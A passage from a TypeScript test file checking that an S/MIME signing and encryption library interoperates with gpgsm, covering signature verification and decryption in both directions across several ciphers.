    expect(detached.stderr).toContain('GOODSIG');
    expect(detached.status).toBe(0);
  });

  it('gpgsm decrypts what we encrypt', async () => {
    // gpgsm 2.2 has neither RSAES-OAEP nor AuthEnvelopedData.
    for (const cipher of ['aes128-cbc', 'aes192-cbc', 'aes256-cbc'] as const) {
      const sealed = await encrypt(MAIL, { recipients: [bob.certificate], cipher });
      const p7m = Buffer.from(text(sealed).split('\r\n\r\n')[1] as string, 'base64');
      const { status, stdout, stderr } = gpgsm.run(['--decrypt'], p7m, password);
      expect(status, stderr).toBe(0);
      expect(text(stdout)).toContain('Hello Bob');
    }
  });

  it('gpgsm decrypts what we encrypt to a password', async () => {
    const sealed = await encrypt(MAIL, { passwords: ['bob'] });
    const p7m = Buffer.from(text(sealed).split('\r\n\r\n')[1] as string, 'base64');
    const { status, stdout, stderr } = gpgsm.run(['--decrypt'], p7m, password);
    expect(status, stderr).toBe(0);
    expect(text(stdout)).toContain('Hello Bob');
  });

  it('we verify what gpgsm signs, attached and detached', async () => {
    const user = ['--local-user', 'bob@example.org'];
    const content = utf8('signed by gpgsm\r\n');
    const attached = gpgsm.run([...user, '--sign'], content, password);
    expect(attached.status, attached.stderr).toBe(0);
    expect((await verify(attached.stdout, { trust })).problems).toEqual([]);
    const detached = gpgsm.run([...user, '--detach-sign', '--armor'], content, password);
    expect((await verify(detached.stdout, { trust, content })).problems).toEqual([]);
  });

  it('we decrypt what gpgsm encrypts', async () => {
    for (const cipher of ['AES', 'AES192', 'AES256', '3DES']) {
      const { status, stdout, stderr } = gpgsm.run(
        ['--cipher-algo', cipher, '--disable-policy-checks', '--recipient', 'bob@example.org', '--encrypt'],
        utf8('for Bob alone'),
      );
      expect(status, stderr).toBe(0);
      expect(text((await decrypt(stdout, { keys: ring(bob) })).content)).toBe('for Bob alone');
    }
  });
});
